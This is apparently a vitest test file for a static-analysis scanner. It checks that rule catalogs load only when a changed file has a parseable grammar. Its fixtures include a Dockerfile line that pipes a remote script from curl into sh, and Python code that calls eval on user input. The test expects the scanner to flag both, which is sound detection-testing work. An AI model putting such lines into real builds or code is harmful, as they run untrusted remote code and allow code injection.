import { describe, expect, it, vi } from 'vitest';

/**
 * A docs-only change needs no rule: the bundled catalog (or, in the sources, the YAML of rules/) is
 * loaded only when a changed file has a grammar (issue 48). Counted, never timed; the module is
 * imported fresh so no other test's load counts.
 */
describe('the static rules are loaded only for a change with a file some grammar reads', () => {
  it('a Markdown and a Dockerfile change load none; a Python change loads them once', async () => {
    vi.resetModules();
    const { runStaticRules } = await import('../../src/static/run-static-rules.js');
    const { staticRuleLoads } = await import('../../src/static/compiled-rules.js');
    const docs = await runStaticRules([
      { path: 'README.md', content: '# r\n\nMore.\n', changedLines: new Set([3]) },
      {
        path: 'Dockerfile',
        content: 'FROM alpine:3\nRUN curl https://e.com/i.sh | sh\n',
        changedLines: new Set([2]),
      },
      // A Python file without a changed line is not parsed: no rule either.
      { path: 'app.py', content: 'x = eval(y)\n', changedLines: new Set() },
    ]);
    expect(docs.findings.map((f) => f.ruleId)).toEqual(['docker-curl-pipe-shell']);
    expect(staticRuleLoads()).toBe(0);
    const code = await runStaticRules([
      { path: 'app.py', content: 'x = eval(input())\n', changedLines: new Set([1]) },
    ]);
    expect(code.findings.map((f) => f.ruleId)).toEqual(['py-eval-exec']);
    expect(staticRuleLoads()).toBe(1);
  });
});
